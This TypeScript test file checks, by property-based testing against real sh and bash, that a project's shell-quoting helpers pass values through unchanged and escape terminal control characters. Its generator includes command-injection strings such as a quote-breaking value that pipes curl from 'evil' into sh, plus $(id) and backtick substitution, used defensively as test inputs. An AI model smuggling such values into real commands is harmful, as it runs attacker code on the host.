/** Commands that are shown: what a shell hands to the program is the value, whatever is in it. */
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { test } from "node:test";
import fc from "fast-check";
import { configSet, quoted, shellWord, singleQuoted } from "../../../components/support/shell.mjs";

/** The arguments that a command gets, as a real shell hands them over. */
function received(shell: string, words: readonly string[]): string[] {
  const { stdout, stderr } = spawnSync(shell, ["-c", `printf '%s\\0' ${words.join(" ")}`], {
    encoding: "utf8",
  });
  assert.equal(stderr, "");
  return stdout.split("\0").slice(0, -1);
}

const special = fc.string({ unit: fc.constantFrom(..." '\"`$\\;|&<>(){}[]*?!#~=%^-,:aé🦆") });
const attack = fc.constantFrom(
  "photos-user'; curl evil|sh; '",
  "$(id)",
  "`id`",
  "a b",
  "-x",
  "~root",
  "=ls",
  "",
);
const visible = fc
  .oneof(special, attack, fc.string({ unit: "grapheme" }))
  .filter((text) => !/\p{Cc}/u.test(text));
const words = (one: fc.Arbitrary<string>) => fc.array(one, { minLength: 1, maxLength: 200 });

test("sh gets the values that are in a shown command", () => {
  fc.assert(
    fc.property(words(visible.filter((text) => shellWord(text) === quoted(text))), (values) => {
      assert.deepEqual(received("sh", values.map(shellWord)), values);
    }),
    { numRuns: 15 },
  );
});

test("sh gets the values that are in a command of the program, line breaks and controls too", () => {
  const any = fc.oneof(visible, fc.string({ unit: fc.constantFrom(..."\n\r\t\u001b\u007f'\\ a") }));
  fc.assert(
    fc.property(words(any), (values) => {
      assert.deepEqual(received("sh", values.map(quoted)), values);
      assert.deepEqual(received("sh", values.map(singleQuoted)), values);
    }),
    { numRuns: 15 },
  );
});

test("what a terminal would obey or hide is shown as digits, and bash gets the value", () => {
  const hidden = fc.string({
    unit: fc.constantFrom(..."\u001b\n\r\t\u0007\u009b\u202e\u2066\u200b\ufeff\u2028'\\01 aé"),
  });
  fc.assert(
    fc.property(words(hidden), (values) => {
      const shown = values.map(shellWord);
      assert.doesNotMatch(shown.join(""), /[\p{Cc}\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u);
      assert.deepEqual(received("bash", shown), values);
    }),
    { numRuns: 15 },
  );
  assert.equal(shellWord("a\u001b[31m'b"), "$'a\\033[31m\\'b'");
});

test("a value that needs no quotes stays as it is", () => {
  for (const text of [
    "immich_server",
    "https://sso.home.example:9443/x",
    "ssh://ann@dc1",
    "v3.1.0",
    "a=b,c%d+e",
  ])
    assert.equal(shellWord(text), text);
  for (const [text, word] of [
    ["", "''"],
    ["it's", "'it'\\''s'"],
    ["=ls", "'=ls'"],
    ["http://x/?a=1&b", "'http://x/?a=1&b'"],
  ] as const)
    assert.equal(shellWord(text), word);
});

test("a value of a setting is never an option", () => {
  assert.equal(configSet("immich-sso:slug", "photos"), "pulumi config set immich-sso:slug photos");
  assert.equal(configSet("immich-sso:slug", "--help"), "pulumi config set immich-sso:slug -- --help");
});
